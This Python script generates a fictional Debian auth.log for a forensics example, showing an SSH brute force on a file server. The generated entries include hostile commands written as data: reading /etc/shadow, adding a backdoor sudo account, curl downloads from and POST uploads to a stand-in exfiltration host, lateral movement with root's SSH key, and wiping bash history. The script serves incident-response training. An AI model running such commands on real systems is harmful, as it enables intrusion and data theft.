#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Write the fictional ``server-auth.log`` example shipped with Rogatory.

The log is the /var/log/auth.log of "fs01", the (fictional) file server of the
(fictional) victim Voorbeeld Logistiek B.V., in the traditional syslog format
written by rsyslog on Debian 12 (no year in the timestamp; local time,
Europe/Amsterdam, CET = UTC+01:00 in November 2026).

Story told by the log:

* 2026-11-12 evening: routine cron jobs and a legitimate admin session;
* 2026-11-13 01:52-02:31: SSH password brute force from 203.0.113.77
  (invalid users, root, then the weak ``backup`` account), ending in a
  successful password login as ``backup``;
* sudo abuse: a new sudo-capable account ``svc-sync``, tool download and
  staging of data for exfiltration to 198.51.100.23;
* lateral movement with root's SSH key to 192.0.2.31 (db01) and
  192.0.2.40 (ws-0117), and a key login back from 192.0.2.31 as ``svc-sync``;
* 2026-11-13 morning: the administrator logs in and finds the damage.

Everything is invented. Only documentation address ranges (RFC 5737) are
used. The output is deterministic: running the script twice gives the same
bytes.

Usage: make_auth_log.py OUTPUT_FILE
"""

from __future__ import annotations

import base64
import hashlib
import random
import sys
from datetime import datetime, timedelta

HOST = "fs01"
ATTACKER = "203.0.113.77"
SCANNER = "203.0.113.201"
ADMIN_WS = "192.0.2.10"
DB01 = "192.0.2.31"
WS0117 = "192.0.2.40"
EXFIL = "198.51.100.23"

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


class Log:
    """Collects (time, program, pid, message) records and renders syslog lines."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.records: list[tuple[datetime, int, str]] = []
        self.next_pid = 14230
        self.seq = 0

    def pid(self) -> int:
        self.next_pid += self.rng.randint(3, 41)
        return self.next_pid

    def port(self) -> int:
        return self.rng.randint(32768, 60999)

    def add(self, when: datetime, program: str, message: str, pid: int | None = None) -> None:
        tag = f"{program}[{pid}]" if pid is not None else program
        # seq keeps the insertion order for records with the same second
        self.seq += 1
        self.records.append((when, self.seq, f"{tag}: {message}"))

    def render(self) -> str:
        lines = []
        for when, _seq, text in sorted(self.records):
            stamp = f"{MONTHS[when.month - 1]} {when.day:>2} {when:%H:%M:%S}"
            lines.append(f"{stamp} {HOST} {text}")
        return "\n".join(lines) + "\n"


def fingerprint(label: str) -> str:
    """A made-up OpenSSH-style SHA256 key fingerprint."""
    digest = hashlib.sha256(b"rogatory-demo-key:" + label.encode()).digest()
    return "SHA256:" + base64.b64encode(digest).decode().rstrip("=")


def cron_jobs(log: Log, start: datetime, end: datetime) -> None:
    t = start.replace(minute=17, second=1)
    while t < end:
        pid = log.pid()
        log.add(
            t, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid
        )
        log.add(t, "CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)", pid)
        log.add(
            t + timedelta(seconds=1),
            "CRON",
            "pam_unix(cron:session): session closed for user root",
            pid,
        )
        t += timedelta(hours=1)


def sudo(
    log: Log,
    when: datetime,
    user: str,
    uid: int,
    tty: str,
    pwd: str,
    command: str,
    duration: int = 1,
) -> None:
    log.add(when, "sudo", f"  {user} : TTY={tty} ; PWD={pwd} ; USER=root ; COMMAND={command}")
    log.add(
        when,
        "sudo",
        f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})",
    )
    log.add(
        when + timedelta(seconds=duration),
        "sudo",
        "pam_unix(sudo:session): session closed for user root",
    )


def ssh_session(
    log: Log,
    when: datetime,
    user: str,
    uid: int,
    src: str,
    method: str,
    session: int,
    length: timedelta,
    key: str | None = None,
) -> tuple[int, int]:
    pid, port = log.pid(), log.port()
    suffix = f": ED25519 {fingerprint(key)}" if key else ""
    log.add(when, "sshd", f"Accepted {method} for {user} from {src} port {port} ssh2{suffix}", pid)
    log.add(
        when,
        "sshd",
        f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)",
        pid,
    )
    log.add(when, "systemd-logind", f"New session {session} of user {user}.", 498)
    upid = log.pid()
    log.add(
        when,
        "systemd",
        f"pam_unix(systemd-user:session): session opened for user {user}(uid={uid}) by (uid=0)",
        upid,
    )
    end = when + length
    log.add(
        end, "sshd", f"Received disconnect from {src} port {port}:11: disconnected by user", pid
    )
    log.add(end, "sshd", f"Disconnected from user {user} {src} port {port}", pid)
    log.add(end, "sshd", f"pam_unix(sshd:session): session closed for user {user}", pid)
    log.add(
        end, "systemd-logind", f"Session {session} logged out. Waiting for processes to exit.", 498
    )
    log.add(end, "systemd-logind", f"Removed session {session}.", 498)
    return pid, port


def failed_invalid_user(log: Log, when: datetime, user: str, src: str) -> None:
    pid, port = log.pid(), log.port()
    log.add(when, "sshd", f"Invalid user {user} from {src} port {port}", pid)
    log.add(when, "sshd", "pam_unix(sshd:auth): check pass; user unknown", pid)
    log.add(
        when,
        "sshd",
        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
        f"tty=ssh ruser= rhost={src}",
        pid,
    )
    log.add(
        when + timedelta(seconds=2),
        "sshd",
        f"Failed password for invalid user {user} from {src} port {port} ssh2",
        pid,
    )
    log.add(
        when + timedelta(seconds=3),
        "sshd",
        f"Connection closed by invalid user {user} {src} port {port} [preauth]",
        pid,
    )


def failed_known_user(log: Log, when: datetime, user: str, src: str, tries: int = 1) -> None:
    pid, port = log.pid(), log.port()
    log.add(
        when,
        "sshd",
        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
        f"tty=ssh ruser= rhost={src}  user={user}",
        pid,
    )
    t = when
    for _ in range(tries):
        t += timedelta(seconds=2)
        log.add(t, "sshd", f"Failed password for {user} from {src} port {port} ssh2", pid)
    if tries > 1:
        log.add(
            t,
            "sshd",
            f"PAM {tries - 1} more authentication failure{'s' if tries > 2 else ''}; "
            f"logname= uid=0 euid=0 tty=ssh ruser= rhost={src}  user={user}",
            pid,
        )
    log.add(
        t + timedelta(seconds=1),
        "sshd",
        f"Connection closed by authenticating user {user} {src} port {port} [preauth]",
        pid,
    )


def banner_grab(log: Log, when: datetime, src: str) -> None:
    pid, port = log.pid(), log.port()
    log.add(
        when, "sshd", "error: kex_exchange_identification: Connection closed by remote host", pid
    )
    log.add(when, "sshd", f"Connection closed by {src} port {port}", pid)


def build() -> str:
    log = Log(seed=20261113)
    d12 = datetime(2026, 11, 12)
    d13 = datetime(2026, 11, 13)

    # --- background -------------------------------------------------------
    cron_jobs(log, d12.replace(hour=21), d13.replace(hour=9))

    # legitimate administrator in the evening
    t = d12.replace(hour=22, minute=4, second=51)
    ssh_session(
        log,
        t,
        "sysadm",
        1000,
        ADMIN_WS,
        "publickey",
        52,
        timedelta(minutes=6, seconds=12),
        key="sysadm@adm-ws",
    )
    sudo(
        log,
        t + timedelta(seconds=40),
        "sysadm",
        1000,
        "pts/0",
        "/home/sysadm",
        "/usr/bin/systemctl status smbd",
    )
    sudo(
        log,
        t + timedelta(minutes=2, seconds=5),
        "sysadm",
        1000,
        "pts/0",
        "/home/sysadm",
        "/usr/bin/apt-get -s upgrade",
        duration=3,
    )

    # internet background noise
    banner_grab(log, d12.replace(hour=23, minute=41, second=9), SCANNER)
    banner_grab(log, d13.replace(hour=0, minute=58, second=33), SCANNER)

    # --- brute force ------------------------------------------------------
    invalid = [
        "admin",
        "test",
        "user",
        "ubuntu",
        "oracle",
        "postgres",
        "git",
        "ftpuser",
        "guest",
        "support",
        "deploy",
        "ansible",
        "nagios",
        "administrator",
        "scanner",
        "nas",
        "samba",
        "veeam",
        "backup1",
        "operator1",
    ]
    t = d13.replace(hour=1, minute=52, second=10)
    for i, user in enumerate(invalid):
        if i % 4 == 0:
            failed_known_user(log, t, "root", ATTACKER, tries=1 + (i // 4) % 3)
            t += timedelta(seconds=log.rng.randint(9, 16))
        failed_invalid_user(log, t, user, ATTACKER)
        t += timedelta(seconds=log.rng.randint(66, 118))

    # the weak "backup" account: two misses, then a hit
    failed_known_user(log, t, "backup", ATTACKER, tries=2)
    t += timedelta(seconds=log.rng.randint(20, 30))
    failed_known_user(log, t, "backup", ATTACKER, tries=1)
    login = d13.replace(hour=2, minute=31, second=44)
    assert t < login, "brute force must end before the successful login"
    ssh_session(
        log,
        login,
        "backup",
        1002,
        ATTACKER,
        "password",
        57,
        timedelta(hours=1, minutes=29, seconds=37),
    )

    # --- actions on the server ---------------------------------------------
    tty, home = "pts/1", "/home/backup"
    s = login + timedelta(minutes=1, seconds=26)
    sudo(log, s, "backup", 1002, tty, home, "/usr/bin/id")
    s += timedelta(seconds=19)
    sudo(log, s, "backup", 1002, tty, home, "/usr/bin/cat /etc/shadow")
    s += timedelta(minutes=1, seconds=3)
    sudo(log, s, "backup", 1002, tty, home, "/usr/sbin/useradd -m -s /bin/bash -G sudo svc-sync")
    upid = log.pid()
    log.add(s, "useradd", "new group: name=svc-sync, GID=1003", upid)
    log.add(
        s,
        "useradd",
        "new user: name=svc-sync, UID=1003, GID=1003, home=/home/svc-sync, "
        "shell=/bin/bash, from=/dev/pts/1",
        upid,
    )
    log.add(s, "useradd", "add 'svc-sync' to group 'sudo'", upid)
    log.add(s, "useradd", "add 'svc-sync' to shadow group 'sudo'", upid)
    s += timedelta(seconds=14)
    sudo(log, s, "backup", 1002, tty, home, "/usr/sbin/chpasswd")
    log.add(s, "chpasswd", "pam_unix(chpasswd:chauthtok): password changed for svc-sync", log.pid())
    s += timedelta(minutes=2, seconds=41)
    sudo(
        log,
        s,
        "backup",
        1002,
        tty,
        home,
        f"/usr/bin/curl -s -o /tmp/.cache/rcl http://{EXFIL}/d/rcl.bin",
        duration=4,
    )
    s += timedelta(seconds=12)
    sudo(log, s, "backup", 1002, tty, home, "/usr/bin/chmod +x /tmp/.cache/rcl")
    s += timedelta(minutes=3, seconds=50)
    sudo(
        log,
        s,
        "backup",
        1002,
        tty,
        "/srv/samba",
        "/usr/bin/tar czf /tmp/.cache/f.tgz finance hr contracts",
        duration=311,
    )
    s += timedelta(minutes=6, seconds=2)
    sudo(
        log,
        s,
        "backup",
        1002,
        tty,
        "/srv/samba",
        "/usr/bin/split -b 64m /tmp/.cache/f.tgz /tmp/.cache/f.part",
        duration=2,
    )

    # lateral movement with root's key
    s = d13.replace(hour=3, minute=6, second=15)
    sudo(
        log,
        s,
        "backup",
        1002,
        tty,
        home,
        f"/usr/bin/ssh -o StrictHostKeyChecking=no -i /root/.ssh/id_ed25519 root@{DB01} uname -a",
        duration=2,
    )
    s += timedelta(seconds=48)
    sudo(
        log,
        s,
        "backup",
        1002,
        tty,
        home,
        f"/usr/bin/scp -i /root/.ssh/id_ed25519 /tmp/.cache/rcl root@{DB01}:/var/tmp/.rcl",
        duration=3,
    )
    s += timedelta(minutes=1, seconds=31)
    sudo(
        log,
        s,
        "backup",
        1002,
        tty,
        home,
        f"/usr/bin/ssh -i /root/.ssh/id_ed25519 svc-backup@{WS0117}",
        duration=1312,
    )
    # pivot back from db01 into fs01 as the new account
    back = d13.replace(hour=3, minute=12, second=2)
    ssh_session(
        log,
        back,
        "svc-sync",
        1003,
        DB01,
        "publickey",
        58,
        timedelta(minutes=41, seconds=8),
        key="root@db01",
    )
    sudo(
        log,
        back + timedelta(minutes=1, seconds=10),
        "svc-sync",
        1003,
        "pts/2",
        "/home/svc-sync",
        "/usr/bin/systemctl stop smbd",
    )

    # exfiltration (see capture.pcap) and clean-up
    s = d13.replace(hour=3, minute=41, second=7)
    sudo(
        log,
        s,
        "backup",
        1002,
        tty,
        "/tmp/.cache",
        f"/usr/bin/curl -s -X POST -H Content-Type: application/octet-stream --data-binary "
        f"@f.partaa http://{EXFIL}/upload.php?id=VBL-2026-1113-7F3A",
        duration=1,
    )
    s += timedelta(minutes=1, seconds=5)
    sudo(
        log,
        s,
        "backup",
        1002,
        tty,
        "/tmp/.cache",
        "/tmp/.cache/rcl copy f.partab remote:drop/vbl/ --config /tmp/.cache/r.conf",
        duration=96,
    )
    s += timedelta(minutes=14, seconds=30)
    sudo(log, s, "backup", 1002, tty, home, "/usr/bin/rm -rf /tmp/.cache")
    s += timedelta(seconds=22)
    sudo(log, s, "backup", 1002, tty, home, "/usr/bin/truncate -s 0 /root/.bash_history")

    # --- morning: the administrator finds out --------------------------------
    m = d13.replace(hour=7, minute=58, second=12)
    ssh_session(
        log,
        m,
        "sysadm",
        1000,
        ADMIN_WS,
        "publickey",
        61,
        timedelta(minutes=19, seconds=3),
        key="sysadm@adm-ws",
    )
    sudo(
        log,
        m + timedelta(seconds=35),
        "sysadm",
        1000,
        "pts/0",
        "/home/sysadm",
        "/usr/bin/systemctl status smbd",
    )
    sudo(
        log,
        m + timedelta(minutes=1, seconds=2),
        "sysadm",
        1000,
        "pts/0",
        "/home/sysadm",
        "/usr/bin/last -F",
    )
    sudo(
        log,
        m + timedelta(minutes=4, seconds=40),
        "sysadm",
        1000,
        "pts/0",
        "/home/sysadm",
        "/usr/sbin/usermod -L svc-sync",
    )
    log.add(
        m + timedelta(minutes=4, seconds=40), "usermod", "lock user 'svc-sync' password", log.pid()
    )
    sudo(
        log,
        m + timedelta(minutes=5, seconds=12),
        "sysadm",
        1000,
        "pts/0",
        "/home/sysadm",
        "/usr/sbin/usermod -L backup",
    )
    log.add(
        m + timedelta(minutes=5, seconds=12), "usermod", "lock user 'backup' password", log.pid()
    )
    return log.render()


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print(__doc__.strip().splitlines()[-1], file=sys.stderr)
        return 2
    with open(argv[1], "w", encoding="ascii", newline="\n") as fh:
        fh.write(build())
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
